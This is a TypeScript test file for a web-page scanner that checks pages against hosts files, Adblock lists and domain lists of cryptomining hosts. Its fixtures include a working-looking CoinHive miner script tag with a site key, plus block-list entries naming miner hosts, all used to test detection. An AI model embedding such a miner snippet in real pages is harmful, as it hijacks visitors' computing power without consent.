import assert from 'node:assert/strict'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test, type TestContext } from 'node:test'
import { loadBlockLists } from '#judge/block-lists.ts'
import { AssayError } from '#model/errors.ts'
import type { Observation } from '#model/observation.ts'
import { judgeFiles } from './judge.ts'

const hosts = '# miners\n127.0.0.1 localhost\n0.0.0.0 coin.example # since 2018\n'
const adblock =
  '[Adblock Plus 2.0]\n! miners\n||coin.example^$third-party\n/hashworker.$script\n@@||good.example/hashworker.js\nshop.example##.ad\n'
const domains = 'coin.example\nother.example\n'
const miner =
  '<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>new CoinHive.Anonymous("aB3dE5gH7jK9mN1pQ3sT5vW7xY9zA1cE").start()</script>'

async function judged(context: TestContext, html: string, list: string | null): Promise<Observation> {
  const dir = await mkdtemp(join(tmpdir(), 'assay-list-'))
  context.after(() => rm(dir, { recursive: true }))
  const page = join(dir, 'page.html')
  await writeFile(page, `<!doctype html><title>A page</title><p>Welcome to this page.</p>${html}`)
  if (list !== null) await writeFile(join(dir, 'list.txt'), list)
  const knowledge = { signatures: [], blockLists: list === null ? [] : [join(dir, 'list.txt')] }
  const events = { onProgress: () => {}, onNote: () => {} }
  for await (const answer of judgeFiles([page], events, new AbortController().signal, knowledge)) {
    assert.ok('observation' in answer)
    return answer.observation
  }
  throw new Error('nothing was judged')
}

const cited = (observation: Observation): string[] =>
  observation.findings.filter(({ detector }) => detector === 'block-list').flatMap(({ evidence }) => evidence.map(({ reason }) => reason))

const asks = '<script src="https://cdn.coin.example/x.js"></script>'
const cases: Record<string, { html: string; list: string; cites: RegExp | null; status: string }> = {
  'a page that asks for a host of an Adblock list, and nothing else': {
    html: asks,
    list: adblock,
    cites: /cdn\.coin\.example\/x\.js; the list has "\|\|coin\.example\^\$third-party" in line 3/,
    status: 'none',
  },
  'a host of a hosts file': { html: '<script src="https://coin.example/x.js"></script>', list: hosts, cites: /in line 3/, status: 'none' },
  'a host below one of a hosts file, which names hosts alone': { html: asks, list: hosts, cites: null, status: 'none' },
  'a host below one of a list of domains': { html: asks, list: domains, cites: /"coin\.example" in line 1/, status: 'none' },
  'an address that the list excepts': {
    html: '<script src="https://good.example/hashworker.js"></script>',
    list: adblock,
    cites: null,
    status: 'none',
  },
  'a page that quotes a list': { html: `<pre>${adblock}</pre><p>coin.example</p>`, list: adblock, cites: null, status: 'none' },
  'a blocker that carries a list': {
    html: '<script>var list = ["coin.example", "||coin.example^", "https://coin.example/x.js"]; block(list)</script>',
    list: adblock,
    cites: null,
    status: 'none',
  },
  'a miner whose host stands on the list': { html: miner, list: '||coinhive.com^\n', cites: /coinhive\.com/, status: 'loaded' },
}
for (const [name, { html, list, cites, status }] of Object.entries(cases)) {
  test(name, async (context) => {
    const observation = await judged(context, html, list)
    const reasons = cited(observation)
    if (cites === null) assert.deepEqual(reasons, [])
    else assert.match(reasons.join('\n'), cites)
    assert.equal(observation.conclusion.status, status)
  })
}

test('a list alone asks for a second look, and changes nothing else that is said', async (context) => {
  const [without, withList] = [await judged(context, asks, null), await judged(context, asks, adblock)]
  assert.deepEqual([without.followUps, withList.followUps.map(({ profile }) => profile)], [[], ['thorough']])
  assert.deepEqual(withList.conclusion, without.conclusion)
  assert.notEqual(withList.judgement, without.judgement)
})

test('a file without entries, and one that is not there, are told', async (context) => {
  const dir = await mkdtemp(join(tmpdir(), 'assay-list-'))
  context.after(() => rm(dir, { recursive: true }))
  await writeFile(join(dir, 'empty.txt'), '! nothing\n# here\n')
  const coded = (code: string) => (error: unknown) => error instanceof AssayError && error.code === code
  await assert.rejects(loadBlockLists([join(dir, 'empty.txt')]), coded('BAD_INPUT_FILE'))
  await assert.rejects(loadBlockLists([join(dir, 'absent.txt')]), coded('NOT_FOUND'))
  await assert.rejects(loadBlockLists([dir]), coded('BAD_INPUT_FILE'))
})
